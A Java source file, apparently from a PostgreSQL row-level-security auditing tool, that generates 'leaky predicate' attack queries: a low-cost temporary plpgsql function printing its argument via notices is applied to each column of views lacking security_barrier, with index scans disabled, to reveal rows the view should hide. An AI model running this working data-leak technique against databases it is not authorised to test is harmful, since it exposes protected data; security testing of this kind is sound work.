package hedgerow.rls.probe;

import hedgerow.rls.catalog.Policy.Command;
import hedgerow.rls.catalog.Relation;
import hedgerow.rls.catalog.Role;
import java.util.List;

/// A condition that reveals its argument before a view without a barrier has excluded a row.
record LeakyPredicates() implements Attack {

    private static final String PEEK = """
        create function pg_temp.hedgerow_peek(anyelement) returns boolean volatile cost 0.0001 language plpgsql \
        as 'begin raise notice ''%%'', $1; return true; end'; \
        set local enable_indexscan = off; set local enable_bitmapscan = off; set local enable_indexonlyscan = off; \
        select 1 from %s where pg_temp.hedgerow_peek(%s)\
        """;

    @Override
    public List<Shot> shots(Field field, Role role) {
        return field.views().stream()
                .filter(view -> view.kind() == Relation.Kind.VIEW && !isBarrier(view))
                .flatMap(view -> field.columns(role, view, Command.SELECT).stream()
                        .map(column -> Shot.read(
                                "leaky predicate",
                                view.quoted(),
                                "SELECT",
                                PEEK.formatted(view.quoted(), column.quoted()))))
                .toList();
    }

    private static boolean isBarrier(Relation view) {
        return view.options().stream().anyMatch(option -> option.matches("security_barrier=(true|on|yes|1)"));
    }
}
